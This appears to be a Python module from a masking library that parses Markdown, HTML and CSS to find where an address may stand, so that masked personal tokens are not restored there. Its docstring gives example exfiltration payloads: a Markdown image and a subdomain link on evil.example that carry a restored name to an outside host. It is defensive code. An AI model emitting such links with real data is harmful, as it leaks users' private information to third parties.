r"""Where in a text an address may stand. Nothing is restored there: a hostile reply would carry the original out.

`![x](https://evil.example/?q=[PERSON_1])` sends the name to its author as soon as a program shows the reply, and
`[PERSON_1].evil.example` does when somebody clicks. The text is read once, character by character, so that it does not matter in which
pieces it comes. It errs towards "an address": Markdown (CommonMark 0.31, GFM autolinks), HTML (WHATWG tokenizer), CSS, bare domains as
programs make links of them. Characters without width are not seen.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from keepmum.policy.masking.hosts import HostRun

_UNSEEN = frozenset(
    map(
        chr,
        (
            0xAD,
            0x34F,
            0x61C,
            0x180E,
            0xFEFF,
            *range(0x200B, 0x2010),
            *range(0x202A, 0x202F),
            *range(0x2060, 0x2070),
            *range(0xFE00, 0xFE10),
        ),
    )
)
_SPACE = frozenset(" \t\n\r\f\v")
_RAW = frozenset({"script", "style", "iframe", "svg", "math", "object", "noscript"})
_PREFIX = frozenset(" \t>*+-.0123456789)")  # what may stand before a definition: a quote, an item of a list
_FUNCTIONS = ("url", "image", "image-set", "src")  # of CSS
_SOURCES = ("src=", "href=", "srcset=", "poster=", "formaction=", "@import")


@dataclass(slots=True, eq=False)
class Place:
    """The place of one token.

    Attributes:
        linkish: Whether its original is an address itself.
        closed: Whether an address may stand there.
        waiting: How many runs it stands in whose end will say more.
    """

    linkish: bool = False
    closed: bool = False
    waiting: int = 0

    @property
    def settled(self) -> bool:
        """Whether it is known if the token may be restored."""
        return self.closed or not self.waiting


@dataclass(slots=True)
class _Tags:
    """Follows the tags of HTML as a browser does: quotes count only around values, and programs read what is in some elements."""

    _state: str = "text"
    _name: str = ""
    _naming: bool = False
    _raw: str = ""
    _tail: str = ""
    _quote: str = ""
    _value: bool = False
    _held: Place | None = None

    def token(self, place: Place) -> None:
        """Read a token: "<" and a token is a tag, unless ">" follows at once."""
        if self._state == "less":
            place.waiting += 1
            self._held, self._state = place, "held"
        else:
            self._settle(tag=True)
            place.closed = place.closed or self._state in {"tag", "raw"}
        self._naming = self._value = False
        self._tail = ""

    def end(self) -> None:
        """Read the end of the text."""
        self._settle(tag=True)

    def see(self, character: str) -> None:
        """Read a character."""
        if self._state == "text":
            if character == "<":
                self._state = "less"
        elif self._state == "less":
            if character.isascii() and (character.isalpha() or character in "/!?"):
                self._open(character)
            elif character != "<":
                self._state = "text"
        elif self._state == "held":
            self._settle(tag=character != ">")
            if self._state == "tag":
                self._in_tag(character)
        elif self._state == "tag":
            self._in_tag(character)
        else:
            self._tail = (self._tail + character.lower())[-12:]
            if self._tail.endswith("</" + self._raw):
                self._raw, self._name, self._state = "", "", "tag"

    def _settle(self, *, tag: bool) -> None:
        if self._held is not None:
            self._held.waiting -= 1
            self._held.closed = self._held.closed or tag
            self._held = None
            self._state = "tag" if tag else "text"
            self._name, self._quote = "", ""

    def _open(self, character: str) -> None:
        self._state, self._naming, self._quote, self._value = "tag", character.isalpha(), "", False
        self._name = character.lower() if character.isalpha() else ""

    def _in_tag(self, character: str) -> None:
        if self._naming:
            if character.isalnum():
                self._name = (self._name + character.lower())[:12]
                return
            self._naming = False
        if self._quote:
            if character == self._quote:
                self._quote = ""
        elif self._value and character in "\"'":
            self._quote, self._value = character, False
        elif character == ">":
            self._raw = self._name if self._name in _RAW else ""
            self._state, self._tail = ("raw" if self._raw else "text"), ""
        elif character == "=":
            self._value = True
        elif character not in _SPACE:
            self._value = False


@dataclass(slots=True)
class _Targets:
    """Follows the targets of links and images, and CSS's `url(`: from "(" to the ")" that fits it, at the latest to the paragraph's end."""

    _open: list[bool] = field(default_factory=list)  # of each open parenthesis, whether a target begins with it
    _count: int = 0
    _angle: str = ""  # "start": "<" may come; "in": between "<" and ">"; "after": behind it, up to the next ")"
    _escaped: bool = False
    _line_blank: bool = False

    @property
    def inside(self) -> bool:
        """Whether a target is open."""
        return self._count > 0 or bool(self._angle)

    def token(self) -> None:
        """Read a token."""
        self._escaped = self._line_blank = False
        if self._angle == "start":
            self._angle = ""

    def see(self, character: str, recent: str) -> None:
        """Read a character; ``recent`` is what stood before it."""
        escaped, self._escaped = self._escaped, character == "\\" and not self._escaped
        self._follow_angle(character, escaped=escaped)
        if character == "\n":
            if self._line_blank:
                self._open.clear()
                self._count = 0
            self._line_blank = True
        elif character not in " \t":
            self._line_blank = False
        if character == "(" and not escaped:
            target = recent.endswith("]") or recent.lower().endswith(_FUNCTIONS)
            self._open.append(target)
            self._count += target
            if target:
                self._angle = self._angle or "start"
        elif character == ")" and not escaped and self._open:
            self._count -= self._open.pop()

    def _follow_angle(self, character: str, *, escaped: bool) -> None:
        if self._angle == "start":
            if character == "<":
                self._angle = "in"
            elif character not in " \t\n":
                self._angle = ""
        elif self._angle == "in":
            if character in "\n<" and not escaped:
                self._angle = ""
            elif character == ">" and not escaped:
                self._angle = "after"
        elif self._angle == "after" and character == ")" and not escaped:
            self._angle = ""


@dataclass(slots=True)
class _Definitions:
    """Follows definitions of references and footnotes, "[a]: …", to the end of the line, or of the next one where it is blank so far."""

    _state: str = "start"  # "start" of a line, in a "label", "after" it, or "" where none can begin
    _prefix: int = 0
    _escaped: bool = False
    _lines: int = 0  # how many more ends of lines it goes over
    _blank: bool = False

    @property
    def inside(self) -> bool:
        """Whether a definition is open."""
        return self._lines > 0

    def token(self, recent: str) -> None:
        """Read a token; ``recent`` is what stood before it."""
        if not self._lines and _names_source(recent):
            self._lines = 1
        if self._state != "label":
            self._state = ""
        self._blank = self._escaped = False

    def see(self, character: str, recent: str) -> None:
        """Read a character; ``recent`` is what stood before it."""
        if self._lines:
            if character == "\n":
                self._lines = self._lines - 1 if self._blank else 0
            elif character not in _SPACE:
                self._blank = False
        elif _names_source(recent):
            self._lines, self._blank = 1, False
        if character == "\n":
            self._state, self._prefix, self._escaped = "start", 0, False
        elif self._state == "start":
            self._prefix += 1
            if character == "[":
                self._state = "label"
            elif character not in _PREFIX or self._prefix > 16:
                self._state = ""
        elif self._state == "label":
            escaped, self._escaped = self._escaped, character == "\\" and not self._escaped
            if not escaped and character in "[]":
                self._state = "after" if character == "]" else ""
        elif self._state == "after":
            if character == ":":
                self._lines, self._blank = 2, True
            self._state = ""


@dataclass(slots=True)
class Watch:
    """Reads a text and says of each token in it whether an address may stand there."""

    _run: HostRun = field(default_factory=HostRun)
    _tags: _Tags = field(default_factory=_Tags)
    _targets: _Targets = field(default_factory=_Targets)
    _definitions: _Definitions = field(default_factory=_Definitions)

    def see(self, text: str) -> None:
        """Read a piece of text in which no token stands."""
        for character in text:
            if character not in _UNSEEN:
                recent = self._run.recent
                self._tags.see(character)
                self._targets.see(character, recent)
                self._definitions.see(character, recent)
                self._run.see(character)

    def token(self, *, linkish: bool) -> Place:
        """Read a token, and return its place, which may be settled later."""
        place = Place(linkish)
        self._tags.token(place)
        self._targets.token()
        self._definitions.token(self._run.recent)
        place.closed = place.closed or self._targets.inside or self._definitions.inside
        self._run.token(place)
        return place

    def close(self) -> None:
        """Read the end of the text; every place is settled then."""
        self._tags.end()
        self._run.end()


def _names_source(recent: str) -> bool:
    """Return whether what comes next is the source of an image or the like, also where the tag around it is not whole."""
    return recent[-1:] in {"=", "t"} and recent.lower().endswith(_SOURCES)
